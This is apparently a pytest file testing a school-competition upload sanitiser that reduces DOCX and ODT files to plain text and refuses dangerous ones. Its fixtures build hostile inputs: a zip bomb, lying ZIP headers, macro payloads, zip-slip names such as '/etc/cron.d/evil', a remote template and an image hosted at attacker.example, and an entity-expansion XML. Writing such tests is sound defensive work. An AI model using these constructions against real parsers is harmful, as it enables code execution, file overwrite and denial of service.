"""DOCX and ODT, built with zipfile."""

import io
import struct
import zipfile

import pytest

from competition.uploads import UploadLimits, UploadRejected, clean_upload, zipsafe
from competition.uploads.zipsafe import SafeZip, central_directory
from tests.upload_builders import DOCM_MAIN, W_NS, docx, docx_paragraphs, odt, odt_content, rels, zip_of

DOCS = {"docx", "odt"}
HYPERLINK = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def reject(data, accept=DOCS, limits=None):
    with pytest.raises(UploadRejected) as info:
        clean_upload(data, accept, limits or UploadLimits())
    return info.value


def test_normal_docx_text_with_stanza_breaks_and_no_author():
    data = docx(docx_paragraphs(["My poem", "", "First stanza, line one", "line two", "", "Second stanza"]))
    assert b"Ms Teacher Name" in zipfile.ZipFile(io.BytesIO(data)).read("docProps/core.xml")
    result = clean_upload(data, DOCS, UploadLimits())
    assert (result.kind, result.cleaned_mime, result.cleaned_ext) == ("docx", "text/plain; charset=utf-8", ".txt")
    assert result.text == "My poem\n\nFirst stanza, line one\nline two\n\nSecond stanza"
    assert result.cleaned == result.text.encode("utf-8")
    assert b"Ms Teacher Name" not in result.cleaned


def test_docx_runs_tabs_breaks_tracked_deletions_and_fallbacks():
    body = (
        "<w:p><w:r><w:t>Hel</w:t></w:r><w:r><w:t>lo</w:t><w:tab/><w:t>world</w:t><w:br/><w:t>next</w:t></w:r></w:p>"
        '<w:p><w:del w:author="Ms Teacher Name"><w:r><w:delText>removed</w:delText></w:r></w:del>'
        '<w:ins w:author="Ms Teacher Name"><w:r><w:t>added</w:t></w:r></w:ins></w:p>'
        '<w:p><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        '<mc:Choice Requires="wps"><w:r><w:t>box</w:t></w:r></mc:Choice>'
        "<mc:Fallback><w:r><w:t>box</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>"
    )
    xml = f'<?xml version="1.0"?><w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    assert clean_upload(docx(xml), DOCS, UploadLimits()).text == "Hello\tworld\nnext\nadded\nbox"


def test_strict_ooxml_docx():
    strict = docx_paragraphs(["Strict", "", "works"]).replace(W_NS, "http://purl.oclc.org/ooxml/wordprocessingml/main")
    assert clean_upload(docx(strict), DOCS, UploadLimits()).text == "Strict\n\nworks"


def test_odt_without_content_is_damaged():
    data = zip_of({"mimetype": b"application/vnd.oasis.opendocument.text", "meta.xml": "<x/>"})
    assert reject(data).code == "document.damaged"


def test_normal_odt_text_and_no_author():
    content = odt_content(
        '<text:h>Title</text:h><text:p>Line<text:s text:c="2"/>one<text:tab/>tab</text:p><text:p/>'
        "<text:p>Two<text:line-break/>three <office:annotation><dc:creator>Ms Teacher Name</dc:creator>"
        "<text:p>comment</text:p></office:annotation>end</text:p>"
        "<text:list><text:list-item><text:p>item</text:p></text:list-item></text:list>"
    )
    data = odt(content)
    assert b"Ms Teacher Name" in zipfile.ZipFile(io.BytesIO(data)).read("meta.xml")
    result = clean_upload(data, DOCS, UploadLimits())
    assert result.kind == "odt"
    assert result.text == "Title\nLine  one\ttab\n\nTwo\nthree end\nitem"
    assert b"Ms Teacher Name" not in result.cleaned and b"comment" not in result.cleaned


def test_odt_tracked_deletions_are_not_read():
    content = odt_content(
        "<text:tracked-changes><text:changed-region><text:deletion><office:change-info>"
        "<dc:creator>Ms Teacher Name</dc:creator></office:change-info><text:p>deleted words</text:p>"
        "</text:deletion></text:changed-region></text:tracked-changes><text:p>kept</text:p>"
    )
    assert clean_upload(odt(content), DOCS, UploadLimits()).text == "kept"


def test_docx_and_odt_are_told_apart_by_content_not_name():
    assert clean_upload(docx(), {"docx"}, UploadLimits()).kind == "docx"
    assert clean_upload(odt(), {"odt"}, UploadLimits()).kind == "odt"
    assert reject(odt(), {"docx"}).params["found"] == "odt"
    assert reject(docx(), {"pdf"}).params["found"] == "docx"


def test_other_zip_is_rejected():
    exc = reject(zip_of({"notes.txt": "hello", "picture.png": b"\x89PNG"}))
    assert exc.code == "type.not_accepted" and exc.params["found"] == "zip"
    assert "Word document" in str(exc.message)


def test_odt_with_wrong_mimetype_is_not_an_odt():
    spreadsheet = odt(mimetype=b"application/vnd.oasis.opendocument.spreadsheet")
    assert reject(spreadsheet).params["found"] == "opendocument"


def test_zip_bomb_declared_size():
    bomb = zip_of({"word/document.xml": b"<" + b"a" * (60 << 20)})  # 60 MiB of one letter, ~60 KiB packed
    assert len(bomb) < 200_000
    exc = reject(bomb)
    assert exc.code == "document.too_large" and "50 MB" in str(exc.message)


def test_central_directory_lying_about_an_entry_size():
    data = bytearray(docx(docx_paragraphs(["x" * 2000] * 1000)))  # document.xml ~2 MB, compresses well
    size = zipfile.ZipFile(io.BytesIO(bytes(data))).getinfo("word/document.xml").file_size
    record = bytes(data).index(b"word/document.xml", data.index(b"PK\x01\x02")) - 46
    assert (
        data[record : record + 4] == b"PK\x01\x02" and struct.unpack("<I", data[record + 24 : record + 28])[0] == size
    )
    data[record + 24 : record + 28] = struct.pack("<I", 100)  # "100 bytes once unpacked"
    assert reject(bytes(data)).code == "document.damaged"


def test_reads_are_counted_against_the_budget():
    container = SafeZip(docx(docx_paragraphs(["x" * 5000])), UploadLimits())
    container.budget = 4000  # as if the headers had promised less than is there
    with pytest.raises(UploadRejected) as info:
        container.read("word/document.xml")
    assert info.value.code == "document.too_large"


def test_more_than_10000_entries():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for i in range(10_001):
            zf.writestr(f"word/media/p{i}.xml", b"")
        zf.writestr("[Content_Types].xml", b"<Types/>")
        zf.writestr("word/document.xml", docx_paragraphs(["x"]))
    exc = reject(out.getvalue(), limits=UploadLimits(max_zip_entries=10_000))
    assert exc.code == "document.too_many_entries" and "10000" in str(exc.message)
    assert reject(out.getvalue()).code == "document.too_many_entries"  # default limit 1000


def test_entry_count_is_checked_before_the_zip_is_parsed(monkeypatch):
    many = zip_of({f"p{i}.xml": b"" for i in range(1001)})
    assert central_directory(many)[0] == 1001

    def must_not_parse(*args, **kwargs):
        raise AssertionError("the ZIP was parsed before its entry count was checked")

    monkeypatch.setattr(zipsafe.zipfile, "ZipFile", must_not_parse)
    assert reject(many).code == "document.too_many_entries"


def test_end_record_lying_about_the_entry_count():
    data = bytearray(docx(extra={f"word/media/p{i}.xml": b"" for i in range(50)}))
    end = data.rindex(b"PK\x05\x06")
    data[end + 8 : end + 12] = struct.pack("<HH", 2, 2)  # "2 entries"
    assert reject(bytes(data), limits=UploadLimits(max_zip_entries=20)).code == "document.too_many_entries"


@pytest.mark.parametrize(
    "extra,main_type",
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}, None),
        ({}, DOCM_MAIN),
    ],
)
def test_macro_enabled_document_named_docx(extra, main_type):
    data = docx(
        main_type=main_type or "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        extra=extra,
    )
    exc = reject(data)
    assert exc.code == "document.macros" and "macros" in str(exc.message)


@pytest.mark.parametrize("name", ["Basic/Standard/Module1.xml", "Scripts/python/evil.py"])
def test_odt_with_macros(name):
    assert reject(odt(extra={name: 'Sub Main\nShell("calc")\nEnd Sub'})).code == "document.macros"


def test_odt_event_listener_calling_a_macro():
    content = odt_content(
        '<office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners><text:p>hi</text:p>"
    )
    assert reject(odt(content)).code == "document.macros"


@pytest.mark.parametrize(
    "name", ["../../evil.txt", "/etc/cron.d/evil", "word/../../evil.xml", "C:/evil.txt", "word\\..\\evil.xml"]
)
def test_zip_slip_entry_names(name):
    exc = reject(docx(extra={name: "x"}))
    assert exc.code == "document.unsafe_names"


def test_external_relationship_to_a_template():
    relationships = rels(
        f'<Relationship Id="rId9" Type="{TEMPLATE}" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
    )
    exc = reject(docx(document_rels=relationships))
    assert exc.code == "document.external"


def test_external_hyperlink_is_fine():
    relationships = rels(
        f'<Relationship Id="rId9" Type="{HYPERLINK}" Target="https://en.wikipedia.org/" TargetMode="External"/>'
    )
    assert clean_upload(docx(document_rels=relationships), DOCS, UploadLimits()).text == "First line\nSecond line"


def test_odt_linked_image():
    content = odt_content(
        '<text:p><draw:frame><draw:image xlink:href="http://attacker.example/p.png"/></draw:frame>hi</text:p>'
    )
    assert reject(odt(content)).code == "document.external"


def test_xml_entity_expansion_is_refused():
    xml = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&b;</w:t></w:r></w:p></w:body></w:document>'
    )
    assert reject(docx(xml)).code == "document.damaged"


def test_password_protected_entries():
    data = bytearray(docx())
    pos = 0
    while (pos := data.find(b"PK\x01\x02", pos)) >= 0:  # set the "encrypted" flag in the central directory
        data[pos + 8] |= 1
        pos += 4
    assert reject(bytes(data)).code == "document.encrypted"


def test_empty_document():
    assert reject(docx(docx_paragraphs(["", "  ", ""]))).code == "document.empty"
